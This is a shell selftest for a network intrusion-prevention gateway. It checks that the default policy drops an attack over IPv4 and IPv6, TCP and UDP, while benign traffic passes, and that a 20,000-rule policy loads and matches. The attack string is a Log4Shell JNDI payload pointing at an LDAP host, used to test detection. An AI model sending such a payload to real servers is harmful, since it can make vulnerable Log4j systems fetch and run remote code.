#!/bin/bash
# SPDX-License-Identifier: GPL-2.0
#
# The shipped default policy (policies/default.rules) loads in the gateway
# with a HOME_NET of both families (IPv6 address lists in the rules), and
# in enforce mode drops an attack over IPv4 TCP, IPv6 TCP and UDP while
# benign traffic on the same ports passes. `make demo` shows the policy at
# work with real clients; this keeps the kernel side of it in make check.
# Then a policy of 20,000 rules, sent in many netlink batches, replaces it.
set -u
source "$(dirname "$0")/lib.sh"

require_guest
require_cmd ip ss socat timeout
require_nfipsctl

tmp=$(mktemp -d)
on_exit "rm -rf '$tmp'"
setup_topology

out=$(gwctl policy apply --classification "$repo/policies/classification.config" \
	--var "HOME_NET=[10.0.2.0/24,fd6e:6669:7073:2::/64]" \
	"$repo/policies/default.rules" 2>&1) || fail "apply: $out"
echo "$out" | grep -q ' skipped=0 ' || fail "rules not sent: $out"
gwctl mode enforce >/dev/null || fail "mode enforce"
start_collectors "$tmp"

# Log4Shell (sids 9000401, 9000402) on the collectors' ports, which no
# rule restricts: $EXTERNAL_NET any -> $HOME_NET any.
attack='GET / HTTP/1.1 User-Agent: ${jndi:ldap://198.51.100.7/a}'
for f in 4 6; do
	[ "$f" = 4 ] && dst=$server4 || dst=$server6
	send_tcp "$f" "$dst" 7001 "benign-tcp$f"
	send_tcp "$f" "$dst" 7001 "$attack tcp$f"
	send_udp "$f" "$dst" 7002 "benign-udp$f"
	send_udp "$f" "$dst" 7002 "$attack udp$f"
	send_udp "$f" "$dst" 7002 "after-udp$f"
	received "$tmp/tcp$f" "benign-tcp$f" || fail "IPv$f benign TCP lost"
	received "$tmp/udp$f" "after-udp$f" || fail "IPv$f UDP after the attack lost"
	grep -q "benign-udp$f" "$tmp/udp$f" || fail "IPv$f benign UDP lost"
	grep -q jndi "$tmp/tcp$f" "$tmp/udp$f" && fail "IPv$f Log4Shell passed"
done
[ "$(gw_hits 9000401)" -ge 2 ] || fail "sid 9000401 hits $(gw_hits 9000401), want >= 2"
[ "$(gw_hits 9000402)" = 2 ] || fail "sid 9000402 hits $(gw_hits 9000402), want 2"
log "default policy: Log4Shell dropped over TCP and UDP, IPv4 and IPv6; benign passes"

# Far more than one POLICY_ADD message holds (64 KiB each).
awk 'BEGIN { for (i = 1; i <= 20000; i++)
	printf "alert tcp any any -> any 7001 (msg:\"bulk %d\"; content:\"bulk-%08d\"; sid:%d;)\n", i, i, i }' \
	>"$tmp/large.rules"
gw_apply "$tmp/large.rules"
gwctl status | grep -qx 'rules: 20000' ||
	fail "large policy: $(gwctl status | grep '^rules:')"
send_tcp 4 "$server4" 7001 "xx bulk-00019999 xx"
received "$tmp/tcp4" "bulk-00019999" || fail "large policy: alerted packet lost"
[ "$(gw_hits 19999)" = 1 ] || fail "large policy: sid 19999 hits $(gw_hits 19999), want 1"
log "a policy of 20000 rules applies and matches"
exit "$ksft_pass"
